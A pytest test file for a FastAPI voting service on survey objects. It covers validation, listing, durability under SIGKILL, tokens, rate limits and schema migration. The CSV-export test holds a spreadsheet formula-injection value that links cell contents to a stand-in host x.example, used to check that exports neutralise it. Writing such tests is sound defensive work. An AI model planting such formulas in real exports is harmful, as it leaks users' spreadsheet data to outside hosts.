"""POST/GET /votes: validation, listing, and durability (an acknowledged vote survives SIGKILL)."""

from __future__ import annotations

import os
import signal
import socket
import sqlite3
import subprocess
import sys
import textwrap
import threading
import time
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient

from app.main import create_app
from app.settings import ServiceSettings
from app.votes_store import VotesStore

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture()
def votes_db(tmp_path: Path) -> Path:
    return tmp_path / "votes.sqlite"


@pytest.fixture()
def client(tiny_artifacts: Path, votes_db: Path) -> TestClient:
    with TestClient(create_app(ServiceSettings(artifacts=tiny_artifacts, votes_db=votes_db,
                                               watch_interval_s=0))) as c:
        yield c


def test_a_vote_is_stored_with_time_version_and_weights(client: TestClient, tiny_artifacts: Path) -> None:
    before = datetime.now(UTC)
    r = client.post("/api/v1/votes", json={"object_id": "sim-0000042", "label": "lens", "voter": "ana",
                                           "note": "arc to the NE"})
    assert r.status_code == 201, r.text
    v = r.json()
    version = client.get("/api/v1/version").json()
    assert v["object_id"] == "sim-0000042" and v["label"] == "lens" and v["voter"] == "ana"
    assert v["note"] == "arc to the NE" and v["id"] >= 1
    assert v["version"] == version["version"] == (tiny_artifacts / "current").resolve().name
    assert v["weights_sha256"] == version["encoder"]["weights_sha256"]
    created = datetime.fromisoformat(v["created"])
    assert created.utcoffset().total_seconds() == 0 and before.replace(microsecond=0) <= created <= datetime.now(UTC)
    assert client.get("/api/v1/votes").json()["items"] == [v]


def test_voter_defaults_to_anonymous_and_note_is_optional(client: TestClient) -> None:
    v = client.post("/api/v1/votes", json={"object_id": "sim-0000001", "label": "boring"}).json()
    assert v["voter"] == "anonymous" and v["note"] is None


def test_csv_export_does_not_hand_spreadsheets_a_formula(client: TestClient) -> None:
    """A voter or note starting with = + - @ is written with a leading apostrophe; numbers stay numbers."""
    import csv
    import io

    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    client.post("/api/v1/votes", json={"object_id": "sim-0000002", "label": "lens", "voter": evil,
                                       "note": "@SUM(1+1)"})
    client.post("/api/v1/votes", json={"object_id": "sim-0000003", "label": "boring", "voter": "-2+3",
                                       "note": "-1.5"})
    r = client.get("/api/v1/votes", params={"format": "csv"})
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows[0]["voter"] == "'" + evil and rows[0]["note"] == "'@SUM(1+1)"
    assert rows[1]["voter"] == "'-2+3" and rows[1]["note"] == "-1.5"
    assert rows[0]["object_id"] == "sim-0000002"


def test_unknown_object_is_404_and_nothing_is_stored(client: TestClient) -> None:
    r = client.post("/api/v1/votes", json={"object_id": "no-such-galaxy", "label": "lens"})
    assert r.status_code == 404
    assert r.json() == {"error": "unknown_object", "detail": "no object with id 'no-such-galaxy' in this survey"}
    assert client.get("/api/v1/votes").json()["total"] == 0


@pytest.mark.parametrize("body", [
    {"object_id": "sim-0000001", "label": "maybe"},
    {"object_id": "sim-0000001", "label": "LENS"},
    {"object_id": "sim-0000001"},
    {"label": "lens"},
    {"object_id": "sim-0000001", "label": "lens", "voter": ""},
    {"object_id": "sim-0000001", "label": "lens", "weight": 3},
    {"object_id": "sim-0000001", "label": "lens", "note": "x" * 2001},
    {"object_id": "sim-0000001", "label": "relevance"},  # a relevance vote needs its score
    {"object_id": "sim-0000001", "label": "relevance", "score": 6},
    {"object_id": "sim-0000001", "label": "relevance", "score": -1},
    {"object_id": "sim-0000001", "label": "relevance", "score": 2.5},
    {"object_id": "sim-0000001", "label": "lens", "score": 3},  # and only it has one
])
def test_bad_votes_are_422_naming_the_field(client: TestClient, body: dict) -> None:
    r = client.post("/api/v1/votes", json=body)
    assert r.status_code == 422, r.text
    assert r.json()["error"] == "invalid_parameter"
    assert client.get("/api/v1/votes").json()["total"] == 0


def test_a_lone_surrogate_is_refused_not_a_500(client: TestClient) -> None:
    raw = b'{"object_id": "sim-0000001", "label": "lens", "note": "\\ud800"}'
    r = client.post("/api/v1/votes", content=raw, headers={"content-type": "application/json"})
    assert r.status_code == 422 and "note" in r.json()["detail"]


def test_listing_filters_and_pages(client: TestClient) -> None:
    cast = [("sim-0000001", "lens", "ana"), ("sim-0000002", "not_lens", "ben"), ("sim-0000001", "interesting", "ben"),
            ("sim-0000003", "lens", "ana"), ("sim-0000001", "lens", "cy")]
    ids = [client.post("/api/v1/votes", json={"object_id": o, "label": lab, "voter": w}).json()["id"]
           for o, lab, w in cast]
    assert ids == sorted(ids)
    everything = client.get("/api/v1/votes").json()
    assert everything["total"] == 5 and [v["id"] for v in everything["items"]] == ids, "oldest first"
    one = client.get("/api/v1/votes", params={"object_id": "sim-0000001"}).json()
    assert one["total"] == 3 and {v["object_id"] for v in one["items"]} == {"sim-0000001"}
    lens = client.get("/api/v1/votes", params={"object_id": "sim-0000001", "label": "lens"}).json()
    assert [v["voter"] for v in lens["items"]] == ["ana", "cy"]
    assert client.get("/api/v1/votes", params={"voter": "ben"}).json()["total"] == 2
    page = client.get("/api/v1/votes", params={"limit": 2, "offset": 2}).json()
    assert page["total"] == 5 and [v["id"] for v in page["items"]] == ids[2:4]
    assert client.get("/api/v1/votes", params={"label": "nope"}).status_code == 422
    assert client.get("/api/v1/votes", params={"limit": 1001}).status_code == 422


def test_concurrent_votes_are_all_kept(client: TestClient, votes_db: Path) -> None:
    statuses: list[int] = []

    def vote(i: int) -> None:
        r = client.post("/api/v1/votes", json={"object_id": f"sim-{i:07d}", "label": "interesting"})
        statuses.append(r.status_code)

    threads = [threading.Thread(target=vote, args=(i,)) for i in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert statuses == [201] * 16
    total, votes = VotesStore(votes_db).list(limit=100)
    assert total == 16 and len({v.id for v in votes}) == 16


def test_the_store_uses_wal_and_full_sync(votes_db: Path) -> None:
    store = VotesStore(votes_db)
    conn = store._connect()
    try:
        assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
        assert conn.execute("PRAGMA synchronous").fetchone()[0] == 2, "2 = FULL"
    finally:
        conn.close()


def test_default_path_is_next_to_the_versions(tiny_artifacts: Path) -> None:
    from app.routes.votes import votes_path

    assert votes_path(ServiceSettings(artifacts=tiny_artifacts)) == tiny_artifacts / "votes.sqlite"
    assert votes_path(ServiceSettings(artifacts=tiny_artifacts, votes_db=Path("/x/v.db"))) == Path("/x/v.db")


SERVER = textwrap.dedent("""
    import sys, uvicorn
    from pathlib import Path
    from app.main import create_app
    from app.settings import ServiceSettings
    app = create_app(ServiceSettings(artifacts=Path(sys.argv[1]), votes_db=Path(sys.argv[2]), watch_interval_s=0))
    uvicorn.run(app, host="127.0.0.1", port=int(sys.argv[3]), log_level="warning")
""")


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_an_acknowledged_vote_survives_sigkill(tiny_artifacts: Path, votes_db: Path) -> None:
    """A real server process; the vote's 201 arrives, the process is SIGKILLed at once (no
    shutdown, no close), and a fresh reader finds the vote."""
    port = free_port()
    proc = subprocess.Popen([sys.executable, "-c", SERVER, str(tiny_artifacts), str(votes_db), str(port)], cwd=ROOT,
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 120
        while True:
            try:
                if httpx.get(f"{base}/readyz", timeout=2).status_code == 200:
                    break
            except httpx.TransportError:
                pass
            assert proc.poll() is None, proc.stderr.read().decode() if proc.stderr else "server died"
            assert time.monotonic() < deadline, "server did not start"
            time.sleep(0.2)
        acked = []
        for i, label in enumerate(("lens", "not_lens", "interesting")):
            r = httpx.post(f"{base}/api/v1/votes", json={"object_id": f"sim-{i:07d}", "label": label, "voter": "kill"},
                           timeout=10)
            assert r.status_code == 201, r.text
            acked.append(r.json())
        os.kill(proc.pid, signal.SIGKILL)  # right after the last acknowledgement
        proc.wait(timeout=10)
        assert proc.returncode == -signal.SIGKILL
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    # a plain sqlite3 reader, then the store: both see every acknowledged vote
    with sqlite3.connect(votes_db) as conn:
        assert conn.execute("SELECT COUNT(*) FROM votes WHERE voter = 'kill'").fetchone()[0] == 3
    total, votes = VotesStore(votes_db).list(voter="kill")
    assert total == 3 and [v.as_dict() for v in votes] == acked


def test_a_voter_can_withdraw_their_own_vote_only(client: TestClient) -> None:
    v = client.post("/api/v1/votes", json={"object_id": "sim-0000004", "label": "lens", "voter": "ana"}).json()
    r = client.delete(f"/api/v1/votes/{v['id']}", params={"voter": "bo"})
    assert r.status_code == 403 and r.json()["error"] == "not_your_vote"
    assert client.get("/api/v1/votes", params={"object_id": "sim-0000004"}).json()["total"] == 1
    assert client.delete(f"/api/v1/votes/{v['id']}", params={"voter": "ana"}).status_code == 204
    assert client.get("/api/v1/votes", params={"object_id": "sim-0000004"}).json()["total"] == 0
    r = client.delete(f"/api/v1/votes/{v['id']}", params={"voter": "ana"})
    assert r.status_code == 404 and r.json()["error"] == "unknown_vote"
    assert client.delete(f"/api/v1/votes/{v['id']}").status_code == 422  # voter is required


def test_with_a_write_token_only_its_holders_vote(tiny_artifacts: Path, votes_db: Path) -> None:
    settings = ServiceSettings(artifacts=tiny_artifacts, votes_db=votes_db, watch_interval_s=0, write_token="w-123")
    body = {"object_id": "sim-0000005", "label": "lens", "voter": "ana"}
    with TestClient(create_app(settings)) as c:
        r = c.post("/api/v1/votes", json=body)
        assert r.status_code == 401 and "write token" in r.json()["detail"]
        assert r.headers["WWW-Authenticate"].startswith("Bearer")
        assert c.post("/api/v1/votes", json=body, headers={"Authorization": "Bearer nope"}).status_code == 401
        r = c.post("/api/v1/votes", json=body, headers={"Authorization": "Bearer w-123"})
        assert r.status_code == 201, r.text
        assert c.delete(f"/api/v1/votes/{r.json()['id']}", params={"voter": "ana"}).status_code == 401
        assert c.get("/api/v1/votes").json()["total"] == 1  # reading stays open


def test_votes_beyond_the_rate_limit_are_429_with_retry_after(tiny_artifacts: Path, votes_db: Path) -> None:
    settings = ServiceSettings(artifacts=tiny_artifacts, votes_db=votes_db, watch_interval_s=0, votes_per_minute=3)
    body = {"object_id": "sim-0000006", "label": "boring"}
    with TestClient(create_app(settings)) as c:
        assert [c.post("/api/v1/votes", json=body).status_code for _ in range(3)] == [201] * 3
        r = c.post("/api/v1/votes", json=body)
        assert r.status_code == 429 and r.json()["error"] == "too_many_votes"
        assert 1 <= int(r.headers["Retry-After"]) <= 60
        assert c.get("/api/v1/votes").json()["total"] == 3  # the refused vote was not stored


def test_rate_limiter_window_and_bounded_client_table() -> None:
    from app.ratelimit import RateLimiter

    lim = RateLimiter(2, window_s=10.0, max_clients=3)
    assert [lim.retry_after("a", now=t) for t in (0.0, 1.0, 2.0)] == [0, 0, 8]
    assert lim.retry_after("a", now=10.5) == 0  # the vote at t=0 left the window
    for i in range(10):
        lim.retry_after(f"c{i}", now=11.0)
    assert len(lim._seen) == 3 and "a" not in lim._seen


def test_a_relevance_vote_keeps_its_0_to_5_score(client: TestClient) -> None:
    r = client.post("/api/v1/votes", json={"object_id": "sim-0000003", "label": "relevance", "score": 4})
    assert r.status_code == 201, r.text
    assert r.json()["label"] == "relevance" and r.json()["score"] == 4
    assert client.post("/api/v1/votes", json={"object_id": "sim-0000003", "label": "lens"}).json()["score"] is None
    listed = client.get("/api/v1/votes", params={"label": "relevance"}).json()
    assert listed["total"] == 1 and listed["items"][0]["score"] == 4


V1_SCHEMA = """
CREATE TABLE votes (
    id INTEGER PRIMARY KEY AUTOINCREMENT, object_id TEXT NOT NULL,
    label TEXT NOT NULL CHECK (label IN ('lens', 'not_lens', 'interesting', 'boring')),
    voter TEXT NOT NULL, note TEXT, created TEXT NOT NULL, version TEXT NOT NULL, weights_sha256 TEXT NOT NULL);
CREATE INDEX votes_object ON votes (object_id);
CREATE INDEX votes_label ON votes (label);
PRAGMA user_version = 1;
"""


def test_a_version_1_votes_file_is_migrated_keeping_every_vote(votes_db: Path) -> None:
    """A votes file written before relevance votes (schema 1: its CHECK knows four labels) is moved to
    schema 2 on open, in one transaction: the votes and their ids are kept, and relevance votes fit."""
    with sqlite3.connect(votes_db) as conn:
        conn.executescript(V1_SCHEMA)
        conn.executemany("INSERT INTO votes (object_id, label, voter, note, created, version, weights_sha256) "
                         "VALUES (?, ?, 'ada', NULL, '2026-11-23T00:00:00+00:00', 'v1', 'w')",
                         [("a", "lens"), ("b", "boring"), ("c", "interesting")])
        conn.execute("DELETE FROM votes WHERE object_id = 'a'")  # a gap in the ids must survive
    store = VotesStore(votes_db)
    total, votes = store.list(limit=10)
    assert total == 2 and [(v.id, v.object_id, v.label, v.score) for v in votes] == [(2, "b", "boring", None),
                                                                                       (3, "c", "interesting", None)]
    added = store.add("d", "relevance", "ada", None, "v2", "w", score=5)
    assert added.id == 4 and store.labelled(("relevance",)) == [(4, "d", "relevance", 5)]
    with sqlite3.connect(votes_db) as conn:
        assert conn.execute("PRAGMA user_version").fetchone()[0] == 2
        with pytest.raises(sqlite3.IntegrityError):  # the file itself refuses a relevance vote without a score
            conn.execute("INSERT INTO votes (object_id, label, voter, created, version, weights_sha256) "
                         "VALUES ('e', 'relevance', 'ada', 't', 'v', 'w')")
    VotesStore(votes_db)  # opening again migrates nothing and loses nothing
    assert VotesStore(votes_db).list(limit=10)[0] == 3
